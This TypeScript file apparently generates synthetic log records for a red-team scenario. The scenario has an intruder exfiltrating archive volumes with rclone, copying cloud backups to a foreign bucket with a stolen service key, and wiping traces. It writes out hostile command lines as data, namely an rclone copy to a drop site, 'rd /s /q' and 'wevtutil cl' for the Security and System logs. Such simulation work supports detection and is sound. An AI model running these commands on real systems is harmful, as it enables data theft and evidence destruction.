import { minuteMs, secondMs } from "../../../src/redteam/records/time.ts";
import type { Process } from "../../../src/redteam/records/windows/host.ts";
import { systemSession } from "../../../src/redteam/records/windows/host.ts";
import { clearLog } from "../../../src/redteam/records/windows/security.ts";
import { connectFrom, createFile, resolveName, runProcess } from "../../../src/redteam/records/windows/sysmon.ts";
import { callers, objectCall, ownBucket } from "../benign/cloud.ts";
import { company, publicAddresses } from "../company.ts";
import { lookUp, request } from "../network.ts";
import { callCloud } from "../world.ts";
import { dropSite, foreignBucket, stageFolder } from "./cast.ts";
import type { Telling } from "./foothold.ts";

const volumeBytes = 524_288_000;
const volumes = 4;
const agent = "rclone/v1.69.1";

/** Carries the archive out, copies the backups with the key it found there, and wipes its feet. */
export function carryOut(telling: Telling, shell: Process): void {
  telling.step("carried-away", () => upload(telling, shell));
  telling.step("cloud-copy", () => copyInCloud(telling));
  telling.step("logs-cleared", () => wipe(telling, shell));
}

function upload({ world, at }: Telling, shell: Process): void {
  const host = world.files;
  const image = `${stageFolder}\\rclone.exe`;
  const timeMs = at("14:19:30");
  createFile(host, timeMs - 40 * secondMs, shell, image);
  const commandLine = `rclone.exe copy ${stageFolder} vault:drop --include "q1.7z.*" --transfers 4 --config ${stageFolder}\\r.conf`;
  const copier = runProcess(
    host,
    timeMs,
    { image, commandLine, parent: shell, session: systemSession, directory: `${stageFolder}\\` },
    25 * minuteMs,
  );
  lookUp(world.network, timeMs + 400, { client: host.address, name: dropSite.domain, answers: [dropSite.address] });
  resolveName(host, timeMs + 410, copier, dropSite.domain, [dropSite.address]);
  for (let volume = 1; volume <= volumes; volume++) {
    const { clientPort } = request(world.network, timeMs + volume * 700, {
      client: host.address,
      user: `${company.netbios}\\${host.name}$`,
      site: dropSite,
      path: `/drop/q1.7z.${String(volume).padStart(3, "0")}`,
      method: "PUT",
      agent,
      bytesOut: volumeBytes + volume * 1_311,
      bytesIn: 9_200,
      seconds: 1_340 + volume * 17,
    });
    connectFrom(host, timeMs + volume * 700 + 15, copier, {
      sourcePort: clientPort,
      address: dropSite.address,
      port: 443,
      name: dropSite.domain,
    });
  }
}

// The backup agent's key lay on the file server. It is used from there, through the company's own outbound address.
function copyInCloud({ world, at }: Telling): void {
  const caller = callers.backup;
  const common = { caller, address: publicAddresses.outbound, userAgent: agent, isReadOnly: true } as const;
  callCloud(world, at("14:31:10"), { ...common, service: "sts", name: "GetCallerIdentity" });
  callCloud(world, at("14:31:22"), { ...common, service: "s3", name: "ListBuckets" });
  callCloud(world, at("14:31:40"), { ...common, service: "iam", name: "ListUsers", error: denied("iam:ListUsers") });
  callCloud(world, at("14:31:55"), {
    ...common,
    isReadOnly: false,
    service: "iam",
    name: "CreateAccessKey",
    request: { userName: "build-pipeline" },
    error: denied("iam:CreateAccessKey"),
  });
  for (let part = 1; part <= 12; part++) {
    const key = `nightly/set${part}/block-${part * 31}.agb`;
    const bytes = 61_000_000 + part * 4_096;
    const timeMs = at("14:33:00") + part * 22 * secondMs;
    callCloud(world, timeMs, objectCall({ caller, name: "GetObject", bucket: ownBucket, key, bytes, agent }));
    const target = { bucket: foreignBucket.name, owner: foreignBucket.owner };
    callCloud(world, timeMs + 9 * secondMs, objectCall({ caller, name: "PutObject", ...target, key: `m/${part}.agb`, bytes, agent }));
  }
}

const denied = (action: string) => ({
  code: "AccessDenied",
  message: `User: arn:aws:iam::111122223333:user/svc-backup-agent is not authorized to perform: ${action}`,
});

function wipe({ world, at }: Telling, shell: Process): void {
  const host = world.files;
  const image = "C:\\Windows\\System32\\wevtutil.exe";
  const timeMs = at("15:02:15");
  runProcess(host, timeMs - 30 * secondMs, {
    image: "C:\\Windows\\System32\\cmd.exe",
    commandLine: `cmd.exe /c rd /s /q ${stageFolder}`,
    parent: shell,
    session: systemSession,
  });
  for (const [index, channel] of ["Security", "System"].entries()) {
    runProcess(host, timeMs + index * 8 * secondMs, {
      image,
      commandLine: `wevtutil cl ${channel}`,
      parent: shell,
      session: systemSession,
    });
    clearLog(host, timeMs + index * 8 * secondMs + 350, systemSession, channel);
  }
}
